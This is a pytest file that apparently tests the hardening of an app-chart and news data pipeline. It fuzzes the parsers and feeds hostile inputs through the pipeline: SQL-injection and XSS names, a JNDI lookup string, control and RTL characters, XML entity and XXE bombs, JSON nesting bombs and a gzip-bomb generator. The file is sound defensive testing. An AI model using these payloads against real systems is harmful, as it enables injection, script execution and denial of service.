"""Hostile input: fuzzing every parser, injection strings end to end, bombs and oversized bodies.

* ``fuzz`` (marker): every parser gets ≥ 2000 Hypothesis examples — random bytes and mutations of real
  payloads — and only ``transforms.errors.ParseError`` may escape; what it returns must be serialisable. The
  text-level transforms (feed dates, URLs, figures, mentions, dedupe, store-name identity, the short-drama
  classifier) get ≥ 2000 texts each and must not raise at all. ``test_every_public_transform_is_fuzzed``
  keeps the list complete.
* Names carrying SQL, HTML/JS, control characters and right-to-left marks go through the whole pipeline
  (fault server → WARC → stage → GX → DuckDB): stored verbatim, nothing executed, and escaped wherever
  they are shown (alert text/HTML/Slack, the CLI tables, Data Docs).
* XML entity bombs, JSON nesting/number bombs, gzip bombs and oversized bodies are refused within bounded
  memory (tracemalloc peak) and time.
"""

from __future__ import annotations

import json
import time
import tracemalloc
import zlib
from dataclasses import asdict, is_dataclass
from datetime import date
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from transforms.errors import ParseError

FIXTURES = Path(__file__).resolve().parent / "fixtures"
FUZZ_EXAMPLES = 2000
FUZZ = settings(max_examples=FUZZ_EXAMPLES, deadline=None, database=None, derandomize=True,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much,
                                       HealthCheck.data_too_large])

# -------------------------------------------------------------------------------------------------- fuzz

_TOKENS = [b'"', b"{", b"}", b"[", b"]", b",", b":", b"null", b"true", b"-1", b"1e999", b"9" * 30, b"\\u0000",
           b"\\ud800", b"<", b">", b"&", b"&amp;", b"<!DOCTYPE x [<!ENTITY a 'b'>]>", b"]]>", b"\xff\xfe",
           b"\xc3", b"\x00", b"\n", b")]}'", b"AF_initDataCallback({", b"wrb.fr", b"data:", b"<item>", b"</rss>"]


@st.composite
def mutated(draw, seeds: tuple[bytes, ...]) -> bytes:
    """A real payload with 1-4 byte-level edits: cut, delete, insert (random or structural), repeat, flip."""
    body = bytearray(draw(st.sampled_from(seeds)))
    for _ in range(draw(st.integers(1, 4))):
        n = len(body)
        at = draw(st.integers(0, n))
        op = draw(st.sampled_from(["cut", "delete", "insert", "token", "repeat", "flip"]))
        if op == "cut":
            del body[at:]
        elif op == "delete":
            del body[at:at + draw(st.integers(1, 64))]
        elif op == "insert":
            body[at:at] = draw(st.binary(min_size=1, max_size=16))
        elif op == "token":
            body[at:at] = draw(st.sampled_from(_TOKENS))
        elif op == "repeat" and n:
            end = min(n, at + draw(st.integers(1, 200)))
            body[at:at] = body[at:end] * draw(st.integers(1, 3))
        elif op == "flip" and at < n:
            body[at] = draw(st.integers(0, 255))
    return bytes(body)


def _fixtures(*names: str) -> tuple[bytes, ...]:
    return tuple((FIXTURES / n).read_bytes() for n in names)


def _inputs(*seeds: str):
    return st.binary(max_size=600) | mutated(_fixtures(*seeds))


def _only_parse_error(parse, body) -> None:
    try:
        out = parse(body)
    except ParseError as err:
        assert err.reason and "\n" not in str(err)
        return
    for record in out if isinstance(out, list) else [out]:
        assert is_dataclass(record)
        json.dumps(asdict(record), ensure_ascii=False, default=str).encode("utf-8")


def _rss(body):
    from transforms.appstore_rss import parse_appstore_rss

    return parse_appstore_rss(body, country="us", chart="top-free")


def _rss_v2(body):
    from transforms.appstore_rss import parse_rss_v2

    return parse_rss_v2(body, country="us", chart="top-free")


def _legacy(body):
    from transforms.appstore_rss import parse_legacy_rss

    return parse_legacy_rss(body, country="us", chart="top-grossing", genre="6016")


def _lookup(body):
    from transforms.itunes_lookup import parse_itunes_lookup

    return parse_itunes_lookup(body, country="us")


def _chart(body):
    from transforms.google_play_chart import parse_play_chart

    return parse_play_chart(body, country="us", chart="top-free", genre="ENTERTAINMENT")


def _details(body):
    from transforms.google_play_details import parse_play_details

    return parse_play_details(body, app_id="com.newleaf.app.android.victor", country="us")


def _details_any(body):
    from transforms.google_play_details import parse_play_details

    return parse_play_details(body)


def _news(body):
    from transforms.news_feed import parse_news_feed

    return parse_news_feed(body, source_feed="https://news.example/rss")


_SUBJECT_TEXT = st.text(max_size=300) | st.lists(
    st.sampled_from(["ReelShort", "DramaBox", "TikTok", "MeloShort", "《", "》", "优酷", "河马剧场", "短视频用户", "apps",
                     "including", "among them", "包括", "在内的", "等", "款应用", "overtook", "反超", "把", "'s", "的", "（",
                     "）", "(", ")", ", ", "，", "、", " and ", "which", "后者", "前者", "位居第", "第二", " second", "2.3亿",
                     "$5 million", "9月20日", "今年", "一季度", "Q1", "this year", "上线", "以来", " ", "W", "12", "红果",
                     "短剧", "7", "0"]),
    max_size=40).map("".join)


@pytest.mark.fuzz
@FUZZ
@given(_SUBJECT_TEXT, st.integers(min_value=-5, max_value=400))
def test_fuzz_press_subjects(text, position):
    """Other subjects, roles, attachment, the place after a name, the chosen period and name variants never raise
    on any text or position, and what they return lies inside the text."""
    from transforms.news_figures import find_figures, rank_after
    from transforms.news_mentions import build_matcher, name_variants
    from transforms.news_periods import chosen_period, find_periods
    from transforms.news_subjects import Name, attached_name, find_other_names, sentence_roles

    matcher = build_matcher([("reelshort", ["ReelShort"]), ("hongguo", ["Hongguo", "红果短剧"])])
    spans = matcher.finditer(text)
    others = find_other_names(text, [(s.start, s.end) for s in spans])
    assert all(0 <= n.start < n.end <= len(text) and n.app_key is None for n in others)
    names = sorted([Name(s.start, s.end, s.app_key, s.matched) for s in spans] + others, key=lambda n: n.start)
    roles = sentence_roles(text, names)
    assert roles.examples <= {n.start for n in names} and roles.objects <= {n.start for n in names}
    assert all(0 <= a <= b <= len(text) for a, b in roles.object_phrases)
    periods = find_periods(text)
    for fig in find_figures(text):
        found = attached_name(fig.start, fig.end, fig.kind, text, names, max(0, min(position, fig.start)))
        assert found is None or found in names
        chosen = chosen_period(fig.start, fig.end, periods, None)
        assert chosen is None or chosen in periods
    place = rank_after(text, position)
    assert place is None or (0 <= place.start < place.end <= len(text) and place.kind == "rank")
    assert all(isinstance(v, str) and v for v in name_variants(text))


@pytest.mark.fuzz
@FUZZ
@given(_inputs("appstore/rss_v2_top_free_us.json", "appstore/rss_v2_missing_id.json",
               "appstore/legacy_topgrossing_6016_us.json", "appstore/legacy_single_entry.json"))
def test_fuzz_parse_appstore_rss(body):
    _only_parse_error(_rss, body)


@pytest.mark.fuzz
@FUZZ
@given(_inputs("appstore/rss_v2_top_free_us.json", "appstore/rss_v2_missing_id.json"))
def test_fuzz_parse_rss_v2(body):
    _only_parse_error(_rss_v2, body)


@pytest.mark.fuzz
@FUZZ
@given(_inputs("appstore/legacy_topgrossing_6016_us.json", "appstore/legacy_single_entry.json",
               "appstore/legacy_empty.json"))
def test_fuzz_parse_legacy_rss(body):
    _only_parse_error(_legacy, body)


@pytest.mark.fuzz
@FUZZ
@given(_inputs("appstore/lookup_dramas_us.json", "appstore/lookup_empty.json"))
def test_fuzz_parse_itunes_lookup(body):
    _only_parse_error(_lookup, body)


@pytest.mark.fuzz
@FUZZ
@given(_inputs("google_play/chart_entertainment_us.txt", "google_play/chart_empty.txt"))
def test_fuzz_parse_play_chart(body):
    _only_parse_error(_chart, body)


@pytest.mark.fuzz
@FUZZ
@given(_inputs("google_play/details_reelshort.html", "google_play/details_missing_developer.html",
               "google_play/details_no_data_block.html"), st.booleans())
def test_fuzz_parse_play_details(body, with_app_id):
    _only_parse_error(_details if with_app_id else _details_any, body)


@pytest.mark.fuzz
@FUZZ
@given(_inputs("news/google_news_en_reelshort.xml", "news/industry_atom.xml", "news/industry_rss.xml",
               "news/google_news_zh_duanju_chuhai.xml", "news/billion_laughs.xml", "news/external_entity.xml"))
def test_fuzz_parse_news_feed(body):
    _only_parse_error(_news, body)


_TEXT = st.text(max_size=400) | st.text(alphabet=st.sampled_from(list("0123456789.,%$¥亿万 MBmbillionk-–\n"
                                                                     "ReelShort downloads revenue 收入 下载")),
                                        max_size=200)


@pytest.mark.fuzz
@FUZZ
@given(_TEXT, st.sampled_from([None, "2025-09-01T00:00:00Z", "garbage"]))
def test_fuzz_news_text_helpers(text, published_at):
    """The text-level news transforms never raise on any text."""
    from transforms.news_feed import html_to_text, parse_feed_date, target_url
    from transforms.news_mentions import build_matcher, find_mentions  # noqa: F401 - imported: must not fail
    from transforms.news_metrics import extract_metrics
    from transforms.urls import canonical_url

    html_to_text(text)
    assert parse_feed_date(text) is None or isinstance(parse_feed_date(text), str)
    for fn in (target_url, canonical_url):
        try:
            assert isinstance(fn(text), str)
        except ParseError:
            pass
    for metric in extract_metrics(text, apps=[("reelshort", ["ReelShort"])], published_at=published_at):
        json.dumps(asdict(metric), ensure_ascii=False, default=str)


_PRESS_TEXT = st.text(max_size=300) | st.text(
    alphabet=st.sampled_from(list("0123456789.,，%$¥亿万億萬千百十一二两兩三第季度月年分别分別[]()（）①、 \u3000\u00a0"
                                  "ＲｅｅｌＳｈｏｒｔ１２３％ Group1:ReelShort respectively 收入營收下载粉丝註冊")),
    max_size=200)


@pytest.mark.fuzz
@FUZZ
@given(_PRESS_TEXT, st.sampled_from([None, "2025-09-01", "garbage"]))
def test_fuzz_press_text_normalisation(text, published_at):
    """Normalisation, figures, ranks and periods of any text never raise; spans map back into the original."""
    from transforms.news_figures import figure_value, find_figures, find_ranks
    from transforms.news_periods import (
        compared_period_before,
        find_periods,
        parse_published,
        period_right_after,
        pick_period,
    )
    from transforms.text_normalise import normalise, to_simplified, zh_number

    norm = normalise(text)
    assert len(norm.offsets) == len(norm.text) + 1 and norm.original == text
    assert all(0 <= o <= len(text) for o in norm.offsets)
    assert isinstance(to_simplified(text), str) and len(to_simplified(text)) == len(text)
    assert zh_number(text) is None or isinstance(zh_number(text), (int, float))
    periods = find_periods(norm.text)
    published = parse_published(published_at)
    for fig in [*find_figures(norm.text), *find_ranks(norm.text)]:
        assert norm.original_text(fig.start, fig.end) in text
        assert isinstance(figure_value(fig, "revenue"), (int, float))
        pick_period(fig.start, fig.end, periods, None, None, published)
        period_right_after(fig.end, periods, None)
        base = compared_period_before(fig.start, norm.text, periods, None, published)
        assert base is None or isinstance(base, str)


@pytest.mark.fuzz
@FUZZ
@given(_inputs("appstore/rss_v2_top_free_us.json", "appstore/lookup_dramas_us.json",
               "google_play/chart_entertainment_us.txt"))
def test_fuzz_body_decoders(body):
    """``body_text`` / ``body_json``, the byte → text / JSON gate of the JSON parsers: ParseError or a value."""
    from transforms.body_text import body_json, body_text

    _only_parse_error(lambda b: [] if isinstance(body_text(b, "fuzz"), str) else None, body)
    try:
        value = body_json(body, "fuzz")
    except ParseError as err:
        assert err.reason and "\n" not in str(err)
        return
    json.dumps(value, ensure_ascii=False)  # strict JSON: no NaN / Infinity came through


_WORDS = st.text(alphabet=st.sampled_from(list("ReelShort DramaBox 短剧微短剧 drama short reels series vertical "
                                               "mini micro - – : | _ 6016 Entertainment VideoTube\u200f\x00")),
                 max_size=120)


@pytest.mark.fuzz
@FUZZ
@given(st.text(max_size=300) | _WORDS, st.text(max_size=80) | _WORDS, st.none() | st.text(max_size=40),
       st.none() | _WORDS)
def test_fuzz_store_text_helpers(name, publisher, genre, description):
    """The store-listing text transforms (product identity, the short-drama classifier) never raise."""
    from transforms.app_identity import catalog_name_index, normalize_app_name
    from transforms.short_drama import classify_app, short_drama_signals

    assert isinstance(normalize_app_name(name), str)
    assert all(isinstance(label, str) for _, label in short_drama_signals(name, description))
    assert isinstance(catalog_name_index({"a": [name, publisher], "b": [publisher]}), dict)
    for in_catalog in (False, True):
        result = classify_app(name, publisher, genre, description, catalog_match=in_catalog)
        assert isinstance(result.reason, str)
        json.dumps(asdict(result), ensure_ascii=False)


_DATES = st.none() | st.sampled_from(["2025-09-01T00:00:00Z", "2025-09-02T23:00:00+00:00", "2025-09-01",
                                      "garbage", ""]) | st.datetimes().map(lambda d: d.isoformat())


@pytest.mark.fuzz
@FUZZ
@given(st.lists(st.tuples(_TEXT, _TEXT, _DATES, st.sampled_from(["https://a.example/x", "https://a.example/x?utm_a=1",
                                                                 "not a url", "", "https://b.example/y"])),
                max_size=6))
def test_fuzz_news_article_helpers(rows):
    """Mentions, title normalisation and the dedupe of articles built from any text never raise."""
    from transforms.news_dedupe import dedupe_articles, normalize_title, title_similarity, title_tokens
    from transforms.news_mentions import build_matcher, find_mentions
    from transforms.news_metrics import split_sentences
    from transforms.news_records import Article

    matcher = build_matcher([("reelshort", ["ReelShort", "Reel Short"]), ("hongguo", ["Hongguo", "红果短剧"])])
    articles = [Article(url=url, canonical_url=url, title=title, publisher=summary[:20] or None, publisher_url=None,
                        published_at=when, language=None, summary=summary, source_feed=f"feed-{i}", guid=None)
                for i, (title, summary, when, url) in enumerate(rows)]
    for article in articles:
        for mention in find_mentions(article, matcher, text=article.summary):
            assert mention.field in ("title", "summary", "text")
        tokens = title_tokens(normalize_title(article.title, article.publisher))
        assert 0.0 <= title_similarity(tokens, tokens[::-1]) <= 1.0
        assert all(isinstance(s, str) for s in split_sentences(article.summary))
    kept = dedupe_articles(articles)
    assert all(any(k is a for a in articles) for k in kept) and len(kept) <= len(articles)


@pytest.mark.fuzz
@FUZZ
@given(st.sampled_from(["app_store", "google_play", "news", ""]), st.text())
def test_fuzz_discovered_app_key(store, store_app_id):
    """The key of a charted app not in the catalog: any parsed id gives a key; an unknown store is a ValueError."""
    from transforms.records import discovered_app_key

    try:
        key = discovered_app_key(store, store_app_id)
    except ValueError:
        assert store not in ("app_store", "google_play")
        return
    assert key.startswith("ios_" if store == "app_store" else "gp_")


# Every public function of transforms/, and the fuzz test feeding it (build_matcher compiles our catalog, not
# input, but the mention fuzz runs through it; records.* serialise our own records).
FUZZED = {
    "appstore_rss.parse_appstore_rss": test_fuzz_parse_appstore_rss,
    "appstore_rss.parse_rss_v2": test_fuzz_parse_rss_v2,
    "appstore_rss.parse_legacy_rss": test_fuzz_parse_legacy_rss,
    "itunes_lookup.parse_itunes_lookup": test_fuzz_parse_itunes_lookup,
    "google_play_chart.parse_play_chart": test_fuzz_parse_play_chart,
    "google_play_details.parse_play_details": test_fuzz_parse_play_details,
    "news_feed.parse_news_feed": test_fuzz_parse_news_feed,
    "news_feed.html_to_text": test_fuzz_news_text_helpers,
    "news_feed.parse_feed_date": test_fuzz_news_text_helpers,
    "news_feed.target_url": test_fuzz_news_text_helpers,
    "urls.canonical_url": test_fuzz_news_text_helpers,
    "news_metrics.extract_metrics": test_fuzz_news_text_helpers,
    "news_metrics.split_sentences": test_fuzz_news_article_helpers,
    "text_normalise.normalise": test_fuzz_press_text_normalisation,
    "text_normalise.to_simplified": test_fuzz_press_text_normalisation,
    "text_normalise.zh_number": test_fuzz_press_text_normalisation,
    "news_figures.find_figures": test_fuzz_press_text_normalisation,
    "news_figures.find_ranks": test_fuzz_press_text_normalisation,
    "news_figures.figure_value": test_fuzz_press_text_normalisation,
    "news_periods.find_periods": test_fuzz_press_text_normalisation,
    "news_periods.pick_period": test_fuzz_press_text_normalisation,
    "news_periods.period_right_after": test_fuzz_press_text_normalisation,
    "news_periods.parse_published": test_fuzz_press_text_normalisation,
    "news_periods.compared_period_before": test_fuzz_press_text_normalisation,
    "news_periods.chosen_period": test_fuzz_press_subjects,
    "news_figures.rank_after": test_fuzz_press_subjects,
    "news_mentions.name_variants": test_fuzz_press_subjects,
    "news_subjects.find_other_names": test_fuzz_press_subjects,
    "news_subjects.sentence_roles": test_fuzz_press_subjects,
    "news_subjects.attached_name": test_fuzz_press_subjects,
    "records.discovered_app_key": test_fuzz_discovered_app_key,
    "news_mentions.build_matcher": test_fuzz_news_article_helpers,
    "news_mentions.find_mentions": test_fuzz_news_article_helpers,
    "news_dedupe.dedupe_articles": test_fuzz_news_article_helpers,
    "news_dedupe.normalize_title": test_fuzz_news_article_helpers,
    "news_dedupe.title_tokens": test_fuzz_news_article_helpers,
    "news_dedupe.title_similarity": test_fuzz_news_article_helpers,
    "body_text.body_text": test_fuzz_body_decoders,
    "body_text.body_json": test_fuzz_body_decoders,
    "app_identity.normalize_app_name": test_fuzz_store_text_helpers,
    "app_identity.catalog_name_index": test_fuzz_store_text_helpers,
    "short_drama.classify_app": test_fuzz_store_text_helpers,
    "short_drama.short_drama_signals": test_fuzz_store_text_helpers,
}
NOT_FUZZED = {"records.to_dict", "records.field_names"}


def test_every_public_transform_is_fuzzed():
    """A new public function in transforms/ fails this until it is fuzzed (or listed as not taking input)."""
    import importlib
    import inspect
    import pkgutil

    import transforms

    found = set()
    for info in pkgutil.iter_modules(transforms.__path__):
        module = importlib.import_module(f"transforms.{info.name}")
        found |= {f"{info.name}.{name}" for name, fn in inspect.getmembers(module, inspect.isfunction)
                  if not name.startswith("_") and fn.__module__ == module.__name__}
    assert found == set(FUZZED) | NOT_FUZZED, f"unfuzzed: {sorted(found - set(FUZZED) - NOT_FUZZED)}"
    for qualified, test in FUZZED.items():
        source = inspect.getsource(test)
        assert qualified.split(".")[1] in source, f"{test.__name__} does not call {qualified}"
        assert "fuzz" in {m.name for m in getattr(test, "pytestmark", [])}
        assert test._hypothesis_internal_use_settings.max_examples >= FUZZ_EXAMPLES >= 2000  # explicit: no profile lowers it


# ------------------------------------------------------------------------------------- injection strings

HOSTILE_NAMES = [
    "'); DROP TABLE core.apps;--",
    "<script>alert('x')</script>",
    "Robert\"); DELETE FROM ops.quarantine; --",
    "Bell\x07 Esc\x1b[31mred\x1b[0m Tab\tNul-free",
    "\u202eevil.exe\u202c RTL \u200f\u200e mark",
    "[bold red]rich[/] {{7*7}} ${jndi:ldap://x/a} %s%n",
]
D1 = date(2026, 11, 1)


@pytest.fixture(scope="module")
def hostile_day(tmp_path_factory):
    """One day where six top apps carry hostile names (both stores) and one batch carries a hostile id."""
    from sample_data.market import build_market, ranked
    from tests.fault_server import FaultServer, run_day

    top = ranked(build_market(), "free", "us", 0, 15)
    with FaultServer(start=D1) as server:
        server.hostile_names = {m.app.track_id: name for m, name in zip(top, HOSTILE_NAMES, strict=False)}
        server.inject("app_store", "gb", "hostile_id")
        settings = server.settings(tmp_path_factory.mktemp("hostile"), ["us", "gb"])
        result = run_day(settings, D1, ["us", "gb"], run_id="hostile")
    return settings, result


def test_hostile_names_are_stored_verbatim_and_nothing_is_executed(hostile_day):
    settings, result = hostile_day
    assert f"app_store:{D1}:us" in result["summary"]["loaded_batches"]
    assert f"google_play:{D1}:us" in result["summary"]["loaded_batches"]
    with duckdb.connect(str(settings.warehouse_path), read_only=True) as conn:
        for store in ("app_store", "google_play"):
            names = {r[0] for r in conn.execute(
                "SELECT name FROM core.chart_entries WHERE store = ? AND country = 'us'", [store]).fetchall()}
            assert set(HOSTILE_NAMES) <= names, f"{store}: {set(HOSTILE_NAMES) - names}"
        lookups = {r[0] for r in conn.execute(
            "SELECT name FROM core.app_metrics WHERE store = 'app_store' AND country = 'us'").fetchall()}
        assert set(HOSTILE_NAMES) <= lookups
        assert conn.execute("SELECT count(*) FROM core.apps").fetchone()[0] > 0
        assert conn.execute("SELECT count(*) FROM ops.quarantine").fetchone()[0] == 1  # the hostile id only


def test_a_hostile_id_is_quarantined_and_escaped_in_every_alert_rendering(hostile_day):
    from dramatrack.alerts.message import alert_from_report, render_html, render_slack, render_text
    from tests.fault_server import HOSTILE_ID

    settings, result = hostile_day
    assert result["summary"]["quarantined_batches"] == [f"app_store:{D1}:gb"]
    alert = alert_from_report(result["report"])
    assert alert is not None
    examples = " ".join(e for f in alert.failures for e in f["examples"])
    assert "script" in examples and "DROP TABLE" in examples  # the reason names the hostile value
    html_body = render_html(alert)
    assert "<script>" not in html_body and "&lt;script&gt;" in html_body
    slack = json.dumps(render_slack(alert))
    assert "<script>" not in slack and "&lt;script&gt;" in slack
    assert "DROP TABLE" in render_text(alert)  # plain text shows it as text
    with duckdb.connect(str(settings.warehouse_path), read_only=True) as conn:
        reasons = conn.execute("SELECT failed_expectations FROM ops.quarantine").fetchone()[0]
        assert "DROP TABLE" in reasons  # stored as data, verbatim in the JSON reasons
        for table in ("core.apps", "core.chart_entries", "ops.quarantine"):
            conn.execute(f"SELECT count(*) FROM {table}").fetchone()
        assert conn.execute("SELECT count(*) FROM core.chart_entries WHERE store_app_id = ?",
                            [HOSTILE_ID]).fetchone()[0] == 0


def test_control_and_bidi_characters_are_made_visible_in_alerts():
    from dramatrack.alerts.message import alert_from_report, render_html, render_slack, render_text

    report = {"batches": [{"batch_id": "app_store:2026-11-01:us", "source": "app_store", "country": "us",
                           "snapshot_date": "2026-11-01", "status": "failed",
                           "failures": [{"expectation": "expect_x", "unexpected_count": 3,
                                         "examples": [HOSTILE_NAMES[3], HOSTILE_NAMES[4], HOSTILE_NAMES[1]]}]}]}
    alert = alert_from_report(report)
    for rendered in (render_text(alert), render_html(alert), json.dumps(render_slack(alert), ensure_ascii=False)):
        for raw in ("\x07", "\x1b", "\u202e", "\u200f"):
            assert raw not in rendered
    for markup in (render_html(alert), json.dumps(render_slack(alert))):  # text is plain: "<" is harmless
        assert "<script>" not in markup and "&lt;script&gt;" in markup
    assert "\\u202e" in render_text(alert) and "\\x1b" in render_text(alert)


def test_hostile_names_render_literally_in_the_cli_tables(hostile_day):
    from rich.console import Console

    from dramatrack_cli.show import table_of

    settings, _ = hostile_day
    with duckdb.connect(str(settings.warehouse_path), read_only=True) as conn:
        rows = conn.execute("SELECT rank, name FROM core.chart_entries WHERE store = 'app_store' AND country = 'us' "
                            "AND chart = 'top-free' ORDER BY rank").fetchall()
    console = Console(record=True, width=200, color_system=None)
    console.print(table_of("top", ["rank", "name"], rows))  # Rich markup in a name must not be interpreted
    text = console.export_text()
    assert "[bold red]rich[/]" in text and "'); DROP TABLE core.apps;--" in text


def test_data_docs_escape_hostile_values(tmp_path, monkeypatch):
    """Unexpected values reach the Data Docs HTML escaped (a probe suite flags every hostile name).

    Stock GX 1.x puts table cells into the page raw; expectations/data_docs_view.py escapes them.
    """
    import pandas as pd

    from dramatrack.settings import Settings
    from expectations import derived, runner, suites

    def probe_suite(settings, *, batch_column="batch_id"):
        import great_expectations as gx

        return gx.ExpectationSuite(name="hostile_probe", expectations=[
            gx.expectations.ExpectColumnValuesToMatchRegex(column="name", regex=r"^[A-Za-z0-9 ]+$")])

    monkeypatch.setitem(suites.SUITES, "hostile_probe", probe_suite)
    monkeypatch.setitem(runner.SUITES, "hostile_probe", probe_suite)
    monkeypatch.setitem(derived.DERIVERS, "hostile_probe", lambda df, batch_column="batch_id": df.copy())
    settings = Settings(data_dir=tmp_path, countries=["us"])
    frame = pd.DataFrame({"batch_id": ["probe:2026-11-01:us"] * len(HOSTILE_NAMES), "name": HOSTILE_NAMES})
    outcome = runner.validate_frame("hostile_probe", frame, settings=settings, build_docs=True, run_name="hostile")
    assert outcome.failed_batches
    pages = [p for p in settings.gx_dir.rglob("*.html") if "validations" in p.parts]
    assert pages, "Data Docs were built"
    html_text = "\n".join(p.read_text(encoding="utf-8", errors="replace") for p in pages)
    assert "DROP TABLE core.apps" in html_text  # the values are on the page ...
    assert "<script>alert('x')</script>" not in html_text  # ... but not as live markup
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in html_text  # shown literally, once escaped
    assert '<span class="h6" >Expectation Suite:</span>' in html_text  # GX's own markup is left as it was


def test_hostile_names_in_the_html_report_are_escaped():
    """``dramatrack report`` (dramatrack/report): names go into the HTML through ``html.escape`` and into the
    chart specs through ``json_for_script``; ``tests/test_report.py`` builds a whole report with hostile names."""
    if not (Path(__file__).resolve().parents[1] / "dramatrack_cli" / "report_cmd.py").exists():
        pytest.skip("dramatrack_cli/report_cmd.py does not exist yet")
    import json as json_module

    from dramatrack.report.html import _e, json_for_script

    for name in HOSTILE_NAMES + ["</script><script>alert(1)</script>", "a\u2028b\u2029c"]:
        in_script = json_for_script({"name": name})
        assert "<" not in in_script and ">" not in in_script and "&" not in in_script
        assert "\u2028" not in in_script and "\u2029" not in in_script
        assert json_module.loads(in_script)["name"] == name  # escaped, not altered
        assert "<" not in _e(name) and ">" not in _e(name)


def test_hostile_article_titles_parse_verbatim():
    from tests.fault_server import default_news_items, render_news_rss
    from transforms.news_feed import parse_news_feed

    names = [n for n in HOSTILE_NAMES if not any(ord(c) < 0x20 for c in n)]  # XML 1.0 cannot carry C0 controls
    base = default_news_items(D1)[0]
    items = [dict(base, title=name, link=f"{base['link']}-{i}") for i, name in enumerate(names)]
    titles = [a.title for a in parse_news_feed(render_news_rss(items))]
    assert titles == names
    with pytest.raises(ParseError):  # a C0 control character makes the XML malformed: refused, typed
        parse_news_feed(render_news_rss([dict(base, title="Bell\x07")]))


# ------------------------------------------------------------------------------------------------ bombs


def _peak(fn) -> tuple[int, float, object]:
    """(tracemalloc peak bytes, seconds, result or exception) of ``fn()``."""
    tracemalloc.start()
    started = time.monotonic()
    try:
        result = fn()
    except Exception as exc:  # noqa: BLE001 - returned for the caller to check its type
        result = exc
    elapsed = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak, elapsed, result


QUADRATIC_BLOWUP = (b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + b"x" * 50_000 + b'">]><rss><channel>'
                    + b"<item><title>" + b"&a;" * 20_000 + b"</title><link>http://x</link></item></channel></rss>")
XML_BOMBS = {
    "billion_laughs": (FIXTURES / "news" / "billion_laughs.xml").read_bytes(),
    "external_entity": (FIXTURES / "news" / "external_entity.xml").read_bytes(),
    "quadratic_blowup": QUADRATIC_BLOWUP,  # 1 GB if expanded
    "parameter_entity": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x">%p;]><rss/>',
}


@pytest.mark.parametrize("name", sorted(XML_BOMBS))
def test_xml_bombs_are_refused_in_bounded_memory(name):
    body = XML_BOMBS[name]
    peak, elapsed, result = _peak(lambda: _news(body))
    assert isinstance(result, ParseError), result
    assert peak < 8 * 1024 * 1024 + 4 * len(body), f"{peak / 1e6:.1f} MB"
    assert elapsed < 10.0  # refused at once (~ms); an expanded bomb takes minutes: a wide margin for busy machines


JSON_BOMBS = {
    "deep_nesting": b"[" * 200_000 + b"]" * 200_000,
    "deep_objects": b'{"feed":' * 50_000 + b"{}" + b"}" * 50_000,
    "huge_number": b'{"feed": {"results": [{"id": ' + b"9" * 1_000_000 + b"}]}}",
    "huge_string": b'{"resultCount": 1, "results": [{"trackId": "' + b"1" * 4_000_000 + b'"}]}',
}
JSON_PARSERS = {"appstore_rss": _rss, "legacy_rss": _legacy, "itunes_lookup": _lookup, "play_chart": _chart,
                "play_details": _details}


@pytest.mark.parametrize("parser", sorted(JSON_PARSERS))
@pytest.mark.parametrize("bomb", sorted(JSON_BOMBS))
def test_json_bombs_are_refused_in_bounded_memory(parser, bomb):
    body = JSON_BOMBS[bomb]
    if parser == "play_chart":
        body = b")]}'\n\n" + str(len(body)).encode() + b"\n" + body
    if parser == "play_details":
        body = b"<html><script>AF_initDataCallback({key: 'ds:5', hash: '1', data:" + body + b", sideChannel: {}});"
    peak, elapsed, result = _peak(lambda: JSON_PARSERS[parser](body))
    assert isinstance(result, ParseError | list), result  # refused, or (huge string) an id that is no app
    assert peak < 64 * 1024 * 1024 + 30 * len(body), f"{peak / 1e6:.1f} MB for a {len(body) / 1e6:.1f} MB body"
    assert elapsed < 10.0


def _gzip_bomb(decompressed: int) -> bytes:
    co = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\0" * (1024 * 1024)
    parts = [co.compress(chunk) for _ in range(decompressed // len(chunk))]
    return b"".join(parts) + co.flush()


@pytest.mark.parametrize("kind", ["streamed", "declared", "gzip_bomb"])
def test_oversized_bodies_are_refused_in_bounded_memory(tmp_path, kind):
    from extractors.http_client import FetchError, PoliteClient
    from tests.loopback_server import LoopbackServer, Reply, make_settings

    cap = 1024 * 1024
    replies = {
        "streamed": Reply(200, body_size=64 * 1024 * 1024, content_length=False),
        "declared": Reply(200, body_size=64 * 1024 * 1024),
        "gzip_bomb": Reply(200, _gzip_bomb(256 * 1024 * 1024), headers={"Content-Encoding": "gzip"}),
    }
    with LoopbackServer() as server:
        server.script("/big", replies[kind])
        settings = make_settings(tmp_path, max_response_bytes=cap, max_retries=0, read_timeout=5.0)
        with PoliteClient(settings) as client:
            peak, elapsed, result = _peak(lambda: client.fetch(server.url("/big")))
    assert isinstance(result, FetchError) and f"exceeds {cap} bytes" in str(result)
    assert peak < 4 * cap, f"{peak / 1e6:.1f} MB traced for a {cap / 1e6:.0f} MB cap"
    assert elapsed < 10.0
